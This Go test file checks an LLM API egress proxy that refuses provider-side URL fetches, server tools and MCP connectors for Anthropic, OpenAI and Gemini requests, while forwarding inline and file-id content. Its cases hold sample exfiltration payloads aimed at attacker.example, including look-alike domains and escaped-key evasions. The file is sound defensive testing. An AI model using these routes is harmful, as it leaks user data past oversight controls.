package llm

import (
	"io"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// egressCase is one request feature: a body sent to an allowed endpoint,
// and either "" (it is forwarded) or the JSON path of the field the proxy
// must refuse it for.
type egressCase struct {
	name, provider, path, body, field string
}

const (
	ant = "anthropic"
	oai = "openai"
	ggl = "google"
)

// egressCases are the features that make a provider fetch or run
// something for the agent, one per feature, with the forms that must keep
// working beside them.
var egressCases = []egressCase{
	// Anthropic Messages: what keeps working.
	{"anthropic: plain text", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"read https://example.org/ for me"}]}`, ""},
	{"anthropic: text blocks, system, tools, thinking", ant, "/v1/messages", `{"model":"m","max_tokens":1,"stream":true,"system":[{"type":"text","text":"see http://x","cache_control":{"type":"ephemeral"}}],"messages":[{"role":"user","content":[{"type":"text","text":"hi"}]},{"role":"assistant","content":[{"type":"thinking","thinking":"t","signature":"s"},{"type":"tool_use","id":"t1","name":"fetch","input":{"url":"https://example.org/"}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":[{"type":"text","text":"https://example.org/ says hi"}]}]}],"tools":[{"name":"fetch","description":"d","input_schema":{"$schema":"http://json-schema.org/draft-07/schema#","type":"object"}}],"tool_choice":{"type":"auto"},"thinking":{"type":"enabled","budget_tokens":1024},"metadata":{"user_id":"u"}}`, ""},
	{"anthropic: base64 image", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]}]}`, ""},
	{"anthropic: file-id document", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"file_011"}}]}]}`, ""},
	{"anthropic: text document", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"text","media_type":"text/plain","data":"see https://example.org"},"title":"t","citations":{"enabled":true}}]}]}`, ""},
	{"anthropic: count tokens", ant, "/v1/messages/count_tokens", `{"model":"m","messages":[{"role":"user","content":"hi"}]}`, ""},
	// Anthropic Messages: refused.
	{"anthropic: url image", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?d=secret"}}]}]}`, "messages[0].content[0].source.url"},
	{"anthropic: url document", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"x"},{"type":"document","source":{"type":"url","url":"https://attacker.example/d.pdf"}}]}]}`, "messages[0].content[1].source.url"},
	{"anthropic: url source, type after url", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"source":{"url":"https://attacker.example/","type":"url"},"type":"image"}]}]}`, "messages[0].content[0].source.url"},
	{"anthropic: url image in a tool result", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}]}]}]}`, "messages[0].content[0].content[0].source.url"},
	{"anthropic: url image in a content document", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}]}}]}]}`, "messages[0].content[0].source.content[0].source.url"},
	{"open: anthropic: url image in system", ant, "/v1/messages", `{"model":"m","max_tokens":1,"system":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}],"messages":[]}`, "system[0].type"},
	{"anthropic: escaped url", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"\u0075rl","url":"https:\/\/attacker.example/"}}]}]}`, "messages[0].content[0].source.url"},
	{"anthropic: mcp connector", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}`, "mcp_servers"},
	{"anthropic: mcp connector in count_tokens", ant, "/v1/messages/count_tokens", `{"model":"m","messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}`, "mcp_servers"},
	{"open: anthropic: web search tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"read","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}]}`, "tools[1].type"},
	{"open: anthropic: web fetch tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "tools[0].type"},
	{"open: anthropic: code execution tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, "tools[0].type"},
	{"open: anthropic: computer tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"computer_20250124","name":"computer","display_width_px":1,"display_height_px":1}]}`, "tools[0].type"},
	{"open: anthropic: tool type in another case", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"Type":"web_search_20250305","name":"web_search"}]}`, "tools[0].Type"},
	{"open: anthropic: code execution container", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"container":"container_1"}`, "container"},
	{"open: anthropic: server tool result replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"server_tool_use","id":"s","name":"web_fetch","input":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},
	{"open: anthropic: container upload", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"container_upload","file_id":"f"}]}]}`, "messages[0].content[0].type"},
	{"open: anthropic: unknown top-level field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"new_feature":{"url":"https://attacker.example/"}}`, "new_feature"},
	{"open: anthropic: unknown block field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"x","fetch":"https://attacker.example/"}]}]}`, "messages[0].content[0].fetch"},
	{"anthropic: unknown source field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA==","url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].source.url"},
	{"open: anthropic: url in metadata", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"metadata":{"user_id":"https://attacker.example/"}}`, "metadata.user_id"},
	{"open: anthropic: remote $ref in a tool schema", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"type":"object","properties":{"a":{"$ref":"https://attacker.example/s.json"}}}}]}`, "tools[0].input_schema.properties.a.$ref"},
	{"open: anthropic: web search citation replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"text","text":"x","citations":[{"type":"web_search_result_location","url":"https://attacker.example/","title":"t","encrypted_index":"e","cited_text":"c"}]}]}]}`, "messages[0].content[0].citations[0].url"},

	// OpenAI Chat Completions.
	{"openai chat: text and function tools", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"system","content":"see https://example.org"},{"role":"user","content":[{"type":"text","text":"https://example.org"}]},{"role":"assistant","content":null,"tool_calls":[{"id":"c","type":"function","function":{"name":"f","arguments":"{\"url\":\"https://example.org\"}"}}]},{"role":"tool","tool_call_id":"c","content":"ok"}],"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object"}}}],"stream":true,"stream_options":{"include_usage":true}}`, ""},
	{"openai chat: data image", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo=","detail":"low"}}]}]}`, ""},
	{"openai chat: file id", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-1"}}]}]}`, ""},
	{"openai chat: http image", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/?d=secret"}}]}]}`, "messages[0].content[0].image_url.url"},
	{"openai chat: file data as a url", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_data":"https://attacker.example/a.pdf","filename":"a.pdf"}}]}]}`, "messages[0].content[0].file.file_data"},
	{"open: openai chat: web search options", oai, "/v1/chat/completions", `{"model":"m","messages":[],"web_search_options":{}}`, "web_search_options"},
	{"open: openai chat: built-in tool", oai, "/v1/chat/completions", `{"model":"m","messages":[],"tools":[{"type":"web_search"}]}`, "tools[0].type"},
	{"open: openai chat: unknown top-level field", oai, "/v1/chat/completions", `{"model":"m","messages":[],"plugins":[{"url":"https://attacker.example/"}]}`, "plugins"},
	{"open: openai chat: unknown part type", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"video_url","video_url":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},

	// OpenAI Responses.
	{"openai responses: text, function tools, reasoning", oai, "/v1/responses", `{"model":"m","instructions":"see https://example.org","input":[{"role":"user","content":[{"type":"input_text","text":"https://example.org"}]},{"type":"function_call","call_id":"c","name":"f","arguments":"{}"},{"type":"function_call_output","call_id":"c","output":"https://example.org says hi"},{"type":"reasoning","id":"r","summary":[{"type":"summary_text","text":"s"}],"encrypted_content":"e"}],"tools":[{"type":"function","name":"f","parameters":{"type":"object"},"strict":false}],"tool_choice":"auto","parallel_tool_calls":true,"reasoning":{"effort":"low","summary":"auto"},"store":false,"stream":true,"include":["reasoning.encrypted_content"],"prompt_cache_key":"k","text":{"verbosity":"low"}}`, ""},
	{"openai responses: string input", oai, "/v1/responses", `{"model":"m","input":"fetch https://example.org"}`, ""},
	{"openai responses: data and file-id image", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AA==","detail":"auto"},{"type":"input_image","file_id":"file-1"},{"type":"input_file","file_id":"file-2"}]}]}`, ""},
	{"openai responses: http input_image", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://attacker.example/?d=secret"}]}]}`, "input[0].content[0].image_url"},
	{"openai responses: input_file by url", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://attacker.example/a.pdf"}]}]}`, "input[0].content[0].file_url"},
	{"openai responses: url image in a function output", oai, "/v1/responses", `{"model":"m","input":[{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"https://attacker.example/"}]}]}`, "input[0].output[0].image_url"},
	{"open: openai responses: mcp tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/mcp"}]}`, "tools[0].type"},
	{"open: openai responses: web search tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"web_search_preview"}]}`, "tools[0].type"},
	{"open: openai responses: code interpreter tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, "tools[0].type"},
	{"open: openai responses: file search tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"file_search","vector_store_ids":["v"]}]}`, "tools[0].type"},
	{"open: openai responses: stored prompt", oai, "/v1/responses", `{"model":"m","prompt":{"id":"pmpt_1"}}`, "prompt"},
	{"open: openai responses: mcp item replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"mcp_call","id":"m","server_label":"x","name":"n","arguments":"{}"}]}`, "input[0].type"},
	{"open: openai responses: unknown top-level field", oai, "/v1/responses", `{"model":"m","input":"x","connectors":["https://attacker.example/"]}`, "connectors"},
	{"open: openai responses: url citation replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"message","role":"assistant","content":[{"type":"output_text","text":"x","annotations":[{"type":"url_citation","url":"https://attacker.example/","start_index":0,"end_index":1,"title":"t"}]}]}]}`, "input[0].content[0].annotations[0].url"},

	// Gemini.
	{"google: text, function declarations, config", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"user","parts":[{"text":"read https://example.org"}]},{"role":"model","parts":[{"functionCall":{"name":"f","args":{"url":"https://example.org"}},"thoughtSignature":"s"}]},{"role":"user","parts":[{"functionResponse":{"name":"f","response":{"text":"https://example.org says hi"}}}]}],"systemInstruction":{"parts":[{"text":"s"}]},"tools":[{"functionDeclarations":[{"name":"f","description":"d","parameters":{"type":"OBJECT"}}]}],"toolConfig":{"functionCallingConfig":{"mode":"AUTO"}},"generationConfig":{"temperature":0.5,"maxOutputTokens":10,"thinkingConfig":{"thinkingBudget":100,"includeThoughts":true}},"safetySettings":[{"category":"HARM_CATEGORY_HARASSMENT","threshold":"BLOCK_NONE"}]}`, ""},
	{"google: snake case and inline data", ggl, "/v1beta/models/gemini-2.5-pro:streamGenerateContent", `{"contents":[{"role":"user","parts":[{"inline_data":{"mime_type":"image/png","data":"AA=="}}]}],"system_instruction":{"parts":[{"text":"s"}]},"generation_config":{"max_output_tokens":5}}`, ""},
	{"google: Files API file", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"application/pdf","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/abc-123"}}]}]}`, ""},
	{"google: count tokens", ggl, "/v1beta/models/gemini-2.5-pro:countTokens", `{"contents":[{"parts":[{"text":"hi"}]}]}`, ""},
	{"google: fileData by url", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"text/html","fileUri":"https://attacker.example/?d=secret"}}]}]}`, "contents[0].parts[0].fileData.fileUri"},
	{"google: file_data by url", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"file_data":{"file_uri":"gs://attacker/x"}}]}]}`, "contents[0].parts[0].file_data.file_uri"},
	{"google: Files API look-alike", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://generativelanguage.googleapis.com.attacker.example/v1beta/files/a"}}]}]}`, "contents[0].parts[0].fileData.fileUri"},
	{"open: google: url context tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"urlContext":{}}]}`, "tools[0].urlContext"},
	{"open: google: search tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"functionDeclarations":[{"name":"f"}],"googleSearch":{}}]}`, "tools[0].googleSearch"},
	{"open: google: code execution tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"code_execution":{}}]}`, "tools[0].code_execution"},
	{"google: url in system instruction file", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"systemInstruction":{"parts":[{"fileData":{"fileUri":"https://attacker.example/"}}]}}`, "systemInstruction.parts[0].fileData.fileUri"},
	{"open: google: unknown generationConfig field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"generationConfig":{"groundingUrl":"https://attacker.example/"}}`, "generationConfig.groundingUrl"},
	{"open: google: retrieval config", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"toolConfig":{"retrievalConfig":{"languageCode":"en"}}}`, "toolConfig.retrievalConfig"},
	{"open: google: cached content", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"cachedContent":"cachedContents/x"}`, "cachedContent"},
	{"open: google: unknown part field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"executableCode":{"code":"x"}}]}]}`, "contents[0].parts[0].executableCode"},
	{"google: fileData in count tokens", ggl, "/v1beta/models/gemini-2.5-pro:countTokens", `{"generateContentRequest":{"model":"models/m","contents":[{"parts":[{"fileData":{"fileUri":"https://attacker.example/"}}]}]}}`, "generateContentRequest.contents[0].parts[0].fileData.fileUri"},
}

func egressHeaders(f *fixture, provider string) map[string]string {
	h := map[string]string{"Content-Type": "application/json"}
	switch provider {
	case ant:
		h["x-api-key"] = f.sess.FakeKey(ant)
	case oai:
		h["Authorization"] = "Bearer " + f.sess.FakeKey(oai)
	case ggl:
		h["x-goog-api-key"] = f.sess.FakeKey(ggl)
	}
	return h
}

// Every feature that makes the provider fetch an agent-chosen URL, run a
// provider-side tool or reach a connector is refused with 400 before
// anything is forwarded, and the refusal names the field; the forms that
// carry their content inline or by file id reach the provider unchanged.
func TestProviderFetchRefused(t *testing.T) {
	for _, tc := range egressCases {
		t.Run(tc.name, func(t *testing.T) {
			if strings.HasPrefix(tc.name, "open: ") && os.Getenv("IRONCURTAIN_LLM_OPEN") == "" {
				// The allowlist of fields and types, and refusing rather
				// than stripping server tools, are not done yet: these
				// cases fail today (server tools are stripped, unknown
				// fields forwarded). Set IRONCURTAIN_LLM_OPEN=1 to run them.
				t.Skip("open work: per-provider field allowlist (issue 15 part 3)")
			}
			f := newFixture(t, nil)
			var seen []byte
			f.up.setHandler(func(w http.ResponseWriter, r *http.Request) {
				seen, _ = io.ReadAll(r.Body)
				io.WriteString(w, "{}")
			})
			n := len(f.audit())
			status, body, refused := do(t, f.direct(), "POST", f.base("/"+tc.provider+tc.path), egressHeaders(f, tc.provider), tc.body)
			rec := f.auditN(t, n+1)[n]
			if tc.field == "" {
				require.Equal(t, 200, status, body)
				require.False(t, refused)
				<-f.up.hits
				require.Equal(t, tc.body, string(seen))
				return
			}
			require.Equal(t, 400, status, body)
			require.True(t, refused)
			require.Contains(t, body, tc.field)
			require.Contains(t, rec.Refused, tc.field)
			require.Equal(t, tc.field, rec.Field)
			f.up.noHits(t)
		})
	}
}
